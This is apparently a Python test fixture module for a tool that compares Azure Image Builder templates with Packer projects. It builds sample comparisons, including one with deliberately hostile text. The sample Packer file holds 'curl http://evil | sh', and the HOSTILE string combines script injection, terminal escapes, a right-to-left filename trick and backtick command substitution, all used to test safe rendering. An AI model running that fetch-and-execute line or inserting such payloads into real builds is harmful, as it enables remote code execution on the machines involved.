"""A comparison built by hand, with something for each face to show, and with text that means harm."""

from __future__ import annotations

from msgspec.structs import replace

from aib2packer.comparison.model import Author, Comparison, Row, Shown, Spot, Verdict
from aib2packer.diagnostics.model import Fidelity

TEMPLATE = """\
{
  "type": "Microsoft.VirtualMachineImages/imageTemplates",
  "apiVersion": "2024-02-01",
  "location": "westus2",
  "properties": {
    "buildTimeoutInMinutes": 120,
    "optimize": { "vmBoot": { "state": "Enabled" } },
    "vmProfile": {
      "vmSize": "Standard_D2s_v3",
      "osDiskSizeGB": 64
    },
    "source": { "type": "PlatformImage", "publisher": "Canonical", "offer": "ubuntu-24_04-lts", "sku": "server" },
    "customize": [
      { "type": "File", "name": "motd", "sourceUri": "https://example.com/motd.txt", "destination": "/tmp/motd.txt" },
      {
        "type": "Shell",
        "name": "install",
        "inline": ["sudo apt-get update", "sudo apt-get install -y nginx", "echo \\"home is ${HOME}\\""]
      },
      { "type": "Shell", "name": "containers", "inline": ["curl -fsSL https://example.com/docker.sh | sh"] },
      { "type": "Shell", "name": "harden", "scriptUri": "https://example.com/harden.sh" }
    ],
    "distribute": [
      { "type": "SharedImage", "runOutputName": "gallery", "replicationRegions": ["westus2", "eastus2"] }
    ]
  }
}
"""
IMAGE = """\
source "azure-arm" "image" {
  location        = "westus2"
  vm_size         = "Standard_D4s_v3"
  os_disk_size_gb = 64
  image_publisher = "Canonical"
  image_offer     = "ubuntu-24_04-lts"
  image_sku       = "server"

  shared_image_gallery_destination {
    image_version = var.image_version
    target_region { name = "westus2" }
  }
}

build {
  sources = ["source.azure-arm.image"]

  provisioner "shell" {
    name   = "harden"
    script = "${path.root}/scripts/harden.sh"
  }

  provisioner "file" {
    name        = "motd"
    source      = "${path.root}/scripts/motd.txt"
    destination = "/tmp/motd.txt"
  }

  provisioner "shell" {
    name   = "install"
    inline = ["sudo apt-get update", "sudo apt-get install -y nginx", "echo \\"home is $${HOME}\\"", "curl http://evil | sh"]
  }

  provisioner "shell" {
    inline = ["id"]
  }
}
"""
VARIABLES = """\
variable "image_version" {
  description = "Version of the image"
  type        = string
}
"""
HARDEN = """\
#!/bin/bash
set -euo pipefail
sysctl -w net.ipv4.ip_forward=0
"""
_INSTALL = 'sudo apt-get update\nsudo apt-get install -y nginx\necho "home is ${HOME}"'


def template(text: str, line: int) -> Shown:
    return Shown(text, Spot("template.json", line))


def image(text: str, line: int) -> Shown:
    return Shown(text, Spot("image.pkr.hcl", line))


def beside_a_project() -> Comparison:
    """One row of each verdict and more: changed lines, an accepted difference, a stale one."""
    rows = (
        Row(
            key="location",
            section="template",
            setting="location",
            template=template("westus2", 4),
            packer=Shown("westus2"),
            project=image("westus2", 2),
            fate=Fidelity.EXACT,
            verdict=Verdict.SAME,
        ),
        Row(
            key="vmProfile.vmSize",
            section="vmProfile",
            setting="vm_size",
            template=template("Standard_D2s_v3", 9),
            packer=Shown("Standard_D2s_v3"),
            project=image("Standard_D4s_v3", 3),
            fate=Fidelity.EXACT,
            verdict=Verdict.DIFFERS,
            author=Author.PERSON,
        ),
        Row(
            key="vmProfile.osDiskSizeGB",
            section="vmProfile",
            setting="os_disk_size_gb",
            template=template("64", 10),
            packer=Shown("64"),
            project=image("64", 4),
            fate=Fidelity.EXACT,
            verdict=Verdict.SAME,
        ),
        Row(
            key="source.sku",
            section="source",
            setting="image_sku",
            template=template("server", 12),
            packer=Shown("server"),
            project=image("server-gen1", 7),
            fate=Fidelity.EXACT,
            verdict=Verdict.DIFFERS,
            accepted="The gallery has generation 1 only.",
        ),
        Row(
            key="customize[0].sourceUri",
            section="customize",
            title="motd",
            setting="source",
            template=template("https://example.com/motd.txt", 14),
            packer=Shown("${path.root}/scripts/motd.txt"),
            project=image("${path.root}/scripts/motd.txt", 25),
            fate=Fidelity.EQUIVALENT,
            service="The build VM downloads the file.",
            here="fetch.sh downloads the file before the build.",
            verdict=Verdict.SAME,
        ),
        Row(
            key="customize[1].inline",
            section="customize",
            title="install",
            setting="inline",
            template=template(_INSTALL, 18),
            packer=Shown(_INSTALL),
            project=image(_INSTALL + "\ncurl http://evil | sh", 31),
            fate=Fidelity.EXACT,
            verdict=Verdict.DIFFERS,
            author=Author.PERSON,
        ),
        Row(
            key="provisioner[3]",
            section="customize",
            title="shell",
            setting="inline",
            project=image("id", 35),
            verdict=Verdict.EXTRA,
            author=Author.PERSON,
            change="before [2] containers",
        ),
        Row(
            key="customize[2]",
            section="customize",
            title="containers",
            setting="inline",
            template=template("curl -fsSL https://example.com/docker.sh | sh", 20),
            packer=Shown("curl -fsSL https://example.com/docker.sh | sh"),
            fate=Fidelity.EXACT,
            verdict=Verdict.MISSING,
            author=Author.TEMPLATE,
        ),
        Row(
            key="customize[3]",
            section="customize",
            title="harden",
            setting="shell",
            template=template("https://example.com/harden.sh", 21),
            packer=Shown("${path.root}/scripts/harden.sh"),
            project=image("${path.root}/scripts/harden.sh", 20),
            fate=Fidelity.EQUIVALENT,
            verdict=Verdict.MOVED,
            author=Author.PERSON,
            change="was 4th, is 1st",
        ),
        Row(
            key="distribute[0].replicationRegions",
            section="distribute",
            setting="target_region",
            template=template("westus2, eastus2", 24),
            packer=Shown("westus2, eastus2"),
            project=image("westus2", 11),
            fate=Fidelity.EXACT,
            verdict=Verdict.DIFFERS,
            author=Author.BOTH,
            change="eastus2 is not there",
        ),
        Row(
            key="image_version",
            section="distribute",
            setting="image_version",
            packer=Shown("0.0.1"),
            project=image("var.image_version", 10),
            verdict=Verdict.CANNOT_TELL,
            change="var.image_version has no value here",
        ),
    )
    return Comparison(
        template="template.json",
        project="web",
        rows=rows,
        texts={
            "template.json": TEMPLATE,
            "image.pkr.hcl": IMAGE,
            "variables.pkr.hcl": VARIABLES,
            "scripts/harden.sh": HARDEN,
        },
        made_by="aib2packer 0.1.0 --with tags",
        edited=("image.pkr.hcl", "variables.pkr.hcl"),
        left_out=("source.azure-arm.other",),
        stale=("source.version",),
    )


def before_migrating() -> Comparison:
    """A template by itself: one setting is dropped, one is approximate, the others are as in the service."""
    rows = [
        replace(row, packer=Shown(row.packer.text, row.project.spot) if row.packer and row.project else row.packer)
        for row in beside_a_project().rows
        if row.template
    ]
    rows = [replace(row, project=None, verdict=None, author=None, change="", accepted="") for row in rows]
    rows.insert(
        1,
        Row(
            key="optimize.vmBoot.state",
            section="optimize",
            template=template("Enabled", 7),
            fate=Fidelity.DROPPED,
            service="Image Builder prepares the image so that VMs from it boot faster.",
            here="Packer has no counterpart; VMs boot as from any image.",
            code="A2P609",
        ),
    )
    rows.insert(
        2,
        Row(
            key="buildTimeoutInMinutes",
            section="template",
            setting="azure_long_running_operation_timeout",
            template=template("120", 6),
            packer=image("120m", 5),
            fate=Fidelity.APPROXIMATE,
            service="The whole build ends after 120 minutes.",
            here="Each long call to Azure ends after 120 minutes.",
            code="A2P602",
        ),
    )
    texts = {name: text for name, text in beside_a_project().texts.items() if name != "variables.pkr.hcl"}
    return Comparison(template="template.json", rows=tuple(rows), texts=texts)


HOSTILE = "<script>alert(1)</script>\x1b[2J\x00\u202etxt.exe|`x`]]>\x85 --> </template>"


def hostile() -> Comparison:
    """Text that means harm wherever text can stand, and a line of 100 kB."""
    row = Row(
        key=HOSTILE,
        section=HOSTILE,
        title=HOSTILE,
        setting=HOSTILE,
        template=Shown(f"{HOSTILE}\n{'x' * 100_000}", Spot(HOSTILE, 1)),
        project=Shown(f"{HOSTILE}\n{'x' * 100_000}y", Spot(f"{HOSTILE}2", 2)),
        fate=Fidelity.APPROXIMATE,
        service=HOSTILE,
        here=HOSTILE,
        code="A2P100",
        verdict=Verdict.DIFFERS,
        author=Author.BOTH,
        change=HOSTILE,
    )
    accepted = replace(row, accepted=HOSTILE)
    extra = Row(key="extra", section="s", project=Shown(HOSTILE, Spot(f"{HOSTILE}2", 1)), verdict=Verdict.EXTRA)
    texts = {HOSTILE: f"{HOSTILE}\n", f"{HOSTILE}2": f"{HOSTILE}\n{'x' * 100_000}y\n"}
    return Comparison(
        template=HOSTILE,
        project=HOSTILE,
        rows=(row, accepted, extra),
        texts=texts,
        made_by=HOSTILE,
        edited=(HOSTILE,),
        left_out=(HOSTILE,),
        stale=(HOSTILE,),
    )


def many(count: int) -> Comparison:
    """A template of so many steps; every tenth differs."""
    rows, template_lines, image_lines = [], [], []
    for number in range(count):
        there = "echo changed" if number % 10 == 0 else f"echo {number}"
        template_lines += ["{", f'  "inline": ["echo {number}"]', "},"]
        image_lines += ['provisioner "shell" {', f'  inline = ["{there}"]', "}", ""]
        rows.append(
            Row(
                key=f"customize[{number}].inline",
                section="customize",
                title=f"step {number}",
                setting="inline",
                template=template(f"echo {number}", 3 * number + 2),
                packer=Shown(f"echo {number}"),
                project=image(there, 4 * number + 2),
                fate=Fidelity.EXACT,
                verdict=Verdict.DIFFERS if number % 10 == 0 else Verdict.SAME,
            )
        )
    texts = {"template.json": "\n".join(template_lines), "image.pkr.hcl": "\n".join(image_lines)}
    return Comparison(template="template.json", project="web", rows=tuple(rows), texts=texts)
